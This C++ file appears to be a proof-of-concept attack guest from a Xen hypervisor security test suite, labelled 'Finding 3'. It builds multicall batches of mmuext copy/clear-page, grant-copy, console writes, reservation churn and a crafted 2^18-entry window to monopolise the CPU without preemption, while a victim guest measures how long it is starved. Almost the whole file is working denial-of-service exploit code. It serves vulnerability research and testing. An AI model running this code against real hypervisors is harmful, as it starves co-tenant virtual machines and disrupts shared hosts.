// Finding 3: a multicall monopolises the CPU.
//
// multicall continues itself only every 64 entries, and each entry runs with
// its own full work budget (4096 units for mmu_update/mmuext_op, 512 extents
// for memory_op, 64 operations for grant_table_op, 4 KiB for console_io),
// while MMUEXT_COPY_PAGE and CLEAR_PAGE cost one unit per 4 KiB page. One
// multicall of 64 x mmuext_op(4095 x copy_page) is about 260 000 pages of
// copying with no preemption point. The victim beside it (guests/victim,
// 1 ms timer, max_gap_us=20000) measures how long it is kept off the CPU.
//
// Command line: variant=NAME (one per test), rounds=N (default 3).
//   copy_page    64 x mmuext_op(4095 x MMUEXT_COPY_PAGE)
//   clear_page   64 x mmuext_op(4095 x MMUEXT_CLEAR_PAGE)
//   grant_copy   64 x grant_table_op(copy, 64 x 4 KiB)
//   console_io   64 x console_io(write, 4 KiB)
//   memory_op    64 x memory_op(decrease / increase_reservation, 512 extents)
//   max_entries  one multicall of 2^18 entries (xen_version), through a
//                window of 4096 pages that all map one page of 64 entries
// Each round is one multicall; the attacker checks that the work was done
// (the pages copied or cleared, every result right) and prints how long
// each round took (guest time). The victim's longest gap is the verdict.

#include "common.hpp"

using namespace attack;

namespace {

using abi::Hypercall;
using abi::MmuextCmd;

constexpr unsigned kEntries = 64;
constexpr unsigned kPageOps = 4095;
constexpr unsigned kDst = 8;

alignas(4096) uint8_t g_scratch[4096];
abi::MulticallEntry g_mc[kEntries];
abi::MmuextOp g_ops[kPageOps];
abi::GnttabCopy g_gops[64];
char g_text[4096];
uint64_t g_extents[512];

uint64_t g_next_spare;
uint64_t spare() { return rt::mfn_of_pfn(g_next_spare++); }

uint64_t pattern(unsigned i) { return 0x4D554C5449000000ull ^ (uint64_t(i) * 0x9E3779B97F4A7C15ull); }

// Fills (or checks) a frame of ours through the scratch page.
void fill(uint64_t mfn, bool with_pattern) {
    (void)map_at(g_scratch, mfn, true);
    auto* w = reinterpret_cast<volatile uint64_t*>(g_scratch);
    for (unsigned i = 0; i < 512; ++i) w[i] = with_pattern ? pattern(i) : 0;
    (void)restore(g_scratch);
}
bool holds(uint64_t mfn, bool with_pattern) {
    (void)map_at(g_scratch, mfn, false);
    const auto* w = reinterpret_cast<const volatile uint64_t*>(g_scratch);
    bool ok = true;
    for (unsigned i = 0; i < 512; ++i) ok &= w[i] == (with_pattern ? pattern(i) : 0);
    (void)restore(g_scratch);
    return ok;
}

void entry(abi::MulticallEntry& e, Hypercall op, uint64_t a0 = 0, uint64_t a1 = 0, uint64_t a2 = 0, uint64_t a3 = 0) {
    e = abi::MulticallEntry{};
    e.op = uint64_t(op);
    e.args[0] = a0;
    e.args[1] = a1;
    e.args[2] = a2;
    e.args[3] = a3;
    e.result = ~0ull;
}

long multicall(abi::MulticallEntry* e, uint64_t n) { return rt::hypercall(Hypercall::multicall, rt::ptr(e), n); }

uint64_t g_worst_round_ns;

// Runs one round and says how long it took; true if the multicall returned 0
// and every result is `want` (alternating with `want_odd` if given).
bool run_round(const char* variant, unsigned round, abi::MulticallEntry* e, uint64_t n, long want, long want_odd) {
    uint64_t t0 = rt::now_ns();
    long r = multicall(e, n);
    uint64_t took = rt::now_ns() - t0;
    if (took > g_worst_round_ns) g_worst_round_ns = took;
    unsigned bad = 0;
    uint64_t check_n = n < kEntries ? n : kEntries;
    for (uint64_t i = 0; i < check_n; ++i) bad += long(e[i].result) != ((i & 1) ? want_odd : want);
    rt::printf("%s round %u: one multicall of %lu entries took %lu us of guest time (rc %ld, %u results wrong)\n",
               variant, round, n, took / 1000, r, bad);
    return r == 0 && bad == 0;
}

bool copy_or_clear(const char* variant, unsigned rounds, bool copy) {
    uint64_t src = spare(), dst[kDst];
    for (auto& d : dst) d = spare();
    fill(src, true);
    for (unsigned k = 0; k < kPageOps; ++k) {
        g_ops[k] = abi::MmuextOp{};
        g_ops[k].cmd = uint32_t(copy ? MmuextCmd::copy_page : MmuextCmd::clear_page);
        g_ops[k].arg1.mfn = dst[k % kDst];
        if (copy) g_ops[k].arg2.src_mfn = src;
    }
    bool ok = true;
    for (unsigned round = 1; round <= rounds; ++round) {
        for (auto d : dst) fill(d, !copy);   // what the round must overwrite
        for (auto& e : g_mc) entry(e, Hypercall::mmuext_op, rt::ptr(g_ops), kPageOps, 0, abi::kDomidSelf);
        ok &= run_round(variant, round, g_mc, kEntries, 0, 0);
        for (auto d : dst) ok &= holds(d, copy);
    }
    return ok;
}

bool grant_copy(unsigned rounds) {
    uint64_t src = spare(), dst[kDst];
    for (auto& d : dst) d = spare();
    fill(src, true);
    bool ok = true;
    for (unsigned round = 1; round <= rounds; ++round) {
        for (auto d : dst) fill(d, false);
        for (unsigned k = 0; k < 64; ++k) {
            g_gops[k] = abi::GnttabCopy{};
            g_gops[k].source.u.gmfn = src;
            g_gops[k].source.domid = abi::kDomidSelf;
            g_gops[k].dest.u.gmfn = dst[k % kDst];
            g_gops[k].dest.domid = abi::kDomidSelf;
            g_gops[k].len = 4096;
            g_gops[k].status = 1;
        }
        for (auto& e : g_mc) entry(e, Hypercall::grant_table_op, uint64_t(abi::GnttabOp::copy), rt::ptr(g_gops), 64);
        ok &= run_round("grant_copy", round, g_mc, kEntries, 0, 0);
        for (auto& g : g_gops) ok &= g.status == 0;
        for (auto d : dst) ok &= holds(d, true);
    }
    return ok;
}

bool console_io(unsigned rounds) {
    // Lines of 127 characters and a newline: what a domain may write to the
    // hypervisor's console.
    for (unsigned i = 0; i < sizeof g_text; ++i) g_text[i] = (i % 128 == 127) ? '\n' : char('a' + i % 26);
    bool ok = true;
    for (unsigned round = 1; round <= rounds; ++round) {
        for (auto& e : g_mc) entry(e, Hypercall::console_io, uint64_t(abi::ConsoleIo::write), sizeof g_text, rt::ptr(g_text));
        ok &= run_round("console_io", round, g_mc, kEntries, 0, 0);
    }
    return ok;
}

bool memory_op(unsigned rounds) {
    for (auto& x : g_extents) x = spare();
    uint16_t self = abi::kDomidSelf;
    long before = rt::hypercall(Hypercall::memory_op, uint64_t(abi::MemoryOp::current_reservation), rt::ptr(&self));
    abi::XenMemoryReservation res{rt::ptr(g_extents), 512, 0, 0, abi::kDomidSelf};
    bool ok = true;
    for (unsigned round = 1; round <= rounds; ++round) {
        // Give the 512 frames back, take 512 again (into the same array), ...
        for (unsigned i = 0; i < kEntries; ++i)
            entry(g_mc[i], Hypercall::memory_op,
                  uint64_t((i & 1) ? abi::MemoryOp::increase_reservation : abi::MemoryOp::decrease_reservation),
                  rt::ptr(&res));
        ok &= run_round("memory_op", round, g_mc, kEntries, 512, 512);
    }
    long after = rt::hypercall(Hypercall::memory_op, uint64_t(abi::MemoryOp::current_reservation), rt::ptr(&self));
    return ok && after == before;
}

bool max_entries(unsigned rounds) {
    // 2^18 entries at 1 GiB (L3 slot 1, empty): a new L2 and 8 L1s, every
    // L1 entry mapping the one page of 64 entries, writable (results go back).
    constexpr uint64_t kWindow = 0x40000000;
    constexpr uint64_t kCount = 1ull << 18;
    uint64_t page = spare(), l2 = spare(), l1s[8];
    for (auto& m : l1s) m = spare();
    (void)map_at(g_scratch, page, true);
    auto* es = reinterpret_cast<abi::MulticallEntry*>(g_scratch);
    for (unsigned i = 0; i < 64; ++i) entry(es[i], Hypercall::xen_version, 0);
    (void)restore(g_scratch);
    for (auto m : l1s) {
        (void)map_at(g_scratch, m, true);
        auto* t = reinterpret_cast<uint64_t*>(g_scratch);
        for (unsigned i = 0; i < 512; ++i) t[i] = (page << 12) | rt::kPteP | rt::kPteRw | rt::kPteA | rt::kPteD;
        (void)restore(g_scratch);
    }
    (void)map_at(g_scratch, l2, true);
    auto* t = reinterpret_cast<uint64_t*>(g_scratch);
    for (unsigned i = 0; i < 512; ++i) t[i] = i < 8 ? (l1s[i] << 12) | rt::kPteP | rt::kPteRw | rt::kPteA : 0;
    (void)restore(g_scratch);
    uint64_t tables[5];
    own_tables(tables);
    uint64_t l3e = (tables[3] << 12) | 8;   // L3 slot 1
    long r = rt::mmu_update_one(l3e, (l2 << 12) | rt::kPteP | rt::kPteRw | rt::kPteA);
    check(r == 0, "attack.multicall.max_entries_window", "rc %ld", r);
    if (r != 0) return false;
    auto* window = reinterpret_cast<abi::MulticallEntry*>(kWindow);
    bool ok = true;
    for (unsigned round = 1; round <= rounds; ++round) {
        for (unsigned i = 0; i < 64; ++i) window[i].result = ~0ull;
        ok &= run_round("max_entries", round, window, kCount, 4 << 16 | 21, 4 << 16 | 21);
    }
    ok &= rt::mmu_update_one(l3e, 0) == 0;
    return ok;
}

}  // namespace

void rt::main() {
    rt::events_init();
    const char* v;
    size_t vlen;
    char variant[24] = "copy_page";
    if (rt::cmdline_value("variant", &v, &vlen) && vlen < sizeof variant) {
        __builtin_memcpy(variant, v, vlen);
        variant[vlen] = 0;
    }
    unsigned rounds = unsigned(rt::cmdline_number("rounds", 3));
    g_next_spare = rt::first_unmapped_pfn();
    // Let the victim get going first.
    sleep_ns(200 * kMs);
    rt::printf("attacking with %s, %u round(s)\n", variant, rounds);

    auto is = [&](const char* s) {
        size_t i = 0;
        for (; s[i] && variant[i] == s[i]; ++i) {
        }
        return s[i] == 0 && variant[i] == 0;
    };
    bool ok, known = true;
    if (is("copy_page")) ok = copy_or_clear(variant, rounds, true);
    else if (is("clear_page")) ok = copy_or_clear(variant, rounds, false);
    else if (is("grant_copy")) ok = grant_copy(rounds);
    else if (is("console_io")) ok = console_io(rounds);
    else if (is("memory_op")) ok = memory_op(rounds);
    else if (is("max_entries")) ok = max_entries(rounds);
    else ok = known = false;
    char name[64];
    base::snformat(name, sizeof name, "attack.multicall.%s_completed", known ? variant : "unknown_variant");
    check(ok, name, "the batch did not do its work (see the round lines)");
    rt::printf("longest round %lu us of guest time\n", g_worst_round_ns / 1000);
    done();
}
